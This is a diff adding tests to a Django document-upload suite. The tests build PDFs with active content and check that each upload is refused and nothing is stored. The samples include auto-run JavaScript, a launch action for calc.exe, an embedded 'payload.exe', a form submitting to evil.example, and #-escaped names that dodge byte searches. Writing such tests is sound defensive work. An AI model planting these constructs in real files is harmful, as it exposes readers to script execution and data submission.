@@ -13,6 +13,7 @@ from email.message import Message
 import pytest
 from django.urls import reverse
 from pypdf import PdfReader, PdfWriter
+from pypdf.generic import DictionaryObject
 
 from committees import documents
 from committees.models import Document
@@ -223,6 +224,181 @@ def test_a_pdf_with_a_broken_cross_reference_table_is_repaired_or_refused(gs, pa
         assert files_in(media) == []
     else:
         assert Document.objects.get().page_count == 2
+
+
+# --- Active content ----------------------------------------------------------------------------
+
+
+def _name(value: str):
+    from pypdf.generic import NameObject
+
+    return NameObject(value)
+
+
+def _action(kind: str, **entries):
+    """An action dictionary: /S `kind`, plus entries given as Python values."""
+    from pypdf.generic import DictionaryObject, TextStringObject
+
+    action = DictionaryObject({_name("/S"): _name(kind)})
+    for key, value in entries.items():
+        action[_name(f"/{key}")] = value if not isinstance(value, str) else TextStringObject(value)
+    return action
+
+
+def _script(code="app.alert(1)"):
+    return _action("/JavaScript", JS=code)
+
+
+def _annotation(writer, subtype: str, **entries):
+    """An annotation of `subtype` added to the first page, with the given entries."""
+    from pypdf.generic import ArrayObject, DictionaryObject, FloatObject
+
+    annotation = DictionaryObject(
+        {
+            _name("/Type"): _name("/Annot"),
+            _name("/Subtype"): _name(subtype),
+            _name("/Rect"): ArrayObject(FloatObject(n) for n in (10, 10, 200, 40)),
+        }
+    )
+    for key, value in entries.items():
+        annotation[_name(f"/{key}")] = value
+    page = writer.pages[0]
+    annots = page.get("/Annots") or ArrayObject()
+    annots.append(writer._add_object(annotation))
+    page[_name("/Annots")] = annots
+
+
+def _with(change) -> bytes:
+    """The report PDF after `change(writer)`, written out again by pypdf."""
+    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(PDF)))
+    change(writer)
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def _set(where: str, key: str, value):
+    def change(writer):
+        target = writer.root_object if where == "catalog" else writer.pages[0]
+        target[_name(key)] = value
+
+    return change
+
+
+def _open_action_chain(writer):
+    """An innocent-looking "go to page 1" that runs a script next."""
+    from pypdf.generic import ArrayObject
+
+    goto = _action("/GoTo")
+    goto[_name("/D")] = ArrayObject([writer.pages[0].indirect_reference, _name("/Fit")])
+    goto[_name("/Next")] = _script()
+    writer.root_object[_name("/OpenAction")] = goto
+
+
+def _named_script(writer):
+    """A script in the document's /Names tree: readers run it when the file opens."""
+    from pypdf.generic import ArrayObject, DictionaryObject, TextStringObject
+
+    tree = DictionaryObject(
+        {_name("/Names"): ArrayObject([TextStringObject("init"), writer._add_object(_script())])}
+    )
+    writer.root_object[_name("/Names")] = DictionaryObject({_name("/JavaScript"): tree})
+
+
+def _xfa_form(writer):
+    from pypdf.generic import ArrayObject, DictionaryObject, TextStringObject
+
+    writer.root_object[_name("/AcroForm")] = DictionaryObject(
+        {
+            _name("/Fields"): ArrayObject(),
+            _name("/XFA"): TextStringObject("<xdp:xdp><script>app.alert(1)</script></xdp:xdp>"),
+        }
+    )
+
+
+def _rich_media(writer):
+    from pypdf.generic import DictionaryObject
+
+    _annotation(writer, "/RichMedia", RichMediaContent=DictionaryObject())
+
+
+def _escaped_name() -> bytes:
+    """A page-open script whose names are spelt with #-escapes (/J#61vaScript is
+    /JavaScript), which a byte search for "/JavaScript" misses. The file's cross-reference
+    offsets no longer match, which pypdf (like PDF readers) repairs."""
+    data = _with(_set("page", "/AA", _script()))
+    return data.replace(b"/AA", b"/#41A").replace(b"/JavaScript", b"/J#61vaScript")
+
+
+ACTIVE_PDFS = {
+    "script run when the file opens": _with(_set("catalog", "/OpenAction", _script())),
+    "document automatic actions": _with(
+        lambda w: w.root_object.__setitem__(
+            _name("/AA"), DictionaryObject({_name("/WC"): _script()})
+        )
+    ),
+    "document-level javascript": _with(_named_script),
+    "attached file": _with(lambda w: w.add_attachment("payload.exe", b"MZ\x90\x00")),
+    "page-open script": _with(_set("page", "/AA", DictionaryObject({_name("/O"): _script()}))),
+    "link running a script": _with(lambda w: _annotation(w, "/Link", A=_script())),
+    "link launching a program": _with(
+        lambda w: _annotation(w, "/Link", A=_action("/Launch", F="C:\\Windows\\calc.exe"))
+    ),
+    "javascript: address": _with(
+        lambda w: _annotation(w, "/Link", A=_action("/URI", URI=" JavaScript:app.alert(1)"))
+    ),
+    "form submitting its data": _with(
+        lambda w: _annotation(w, "/Link", A=_action("/SubmitForm", F="https://evil.example/"))
+    ),
+    "annotation with automatic actions": _with(
+        lambda w: _annotation(w, "/Widget", AA=DictionaryObject({_name("/E"): _script()}))
+    ),
+    "script chained after a go-to": _with(_open_action_chain),
+    "rich media": _with(_rich_media),
+    "file attachment annotation": _with(lambda w: _annotation(w, "/FileAttachment")),
+    "xfa form": _with(_xfa_form),
+    "names spelt with escapes": _escaped_name(),
+}
+
+
+@pytest.mark.parametrize("kind", list(ACTIVE_PDFS))
+def test_a_pdf_with_active_content_is_refused_and_nothing_is_stored(gs, paper, media, kind):
+    before = row_counts()
+    response = upload(gs, paper, content=ACTIVE_PDFS[kind])
+    assert_refused(response, documents.ACTIVE_CONTENT)
+    assert files_in(media) == []
+    assert not changed_tables(before, row_counts())
+
+
+def test_a_pdf_with_ordinary_links_and_an_opening_view_is_accepted(gs, paper, media):
+    """What a word processor writes: links to a web page, an e-mail address and a page of the
+    document, an outline, and an /OpenAction that only sets the first view (fpdf2 writes
+    one)."""
+    from fpdf import FPDF
+
+    pdf = FPDF()
+    pdf.set_font("helvetica", size=12)
+    pdf.add_page()
+    pdf.start_section("Summary")
+    page_two = pdf.add_link()
+    pdf.cell(0, 10, "Read the policy", link="https://www.coventry.gov.uk/policy")
+    pdf.ln()
+    pdf.cell(0, 10, "E-mail us", link="mailto:governance@coventry.gov.uk")
+    pdf.ln()
+    pdf.cell(0, 10, "Appendix A", link=page_two)
+    pdf.add_page()
+    pdf.set_link(page_two)
+    pdf.start_section("Appendix A")
+    pdf.cell(0, 10, "Appendix A: the policy")
+    content = bytes(pdf.output())
+    assert b"/OpenAction" in content and b"/URI" in content
+
+    response = upload(gs, paper, content=content)
+    assert response.status_code == 302, response.content.decode()[:2000]
+    document = Document.objects.get(paper=paper)
+    assert document.page_count == 2
+    assert "Read the policy" in document.text
+    assert files_in(media) == [document.file.name]
 
 
 # --- Hostile names -----------------------------------------------------------------------------
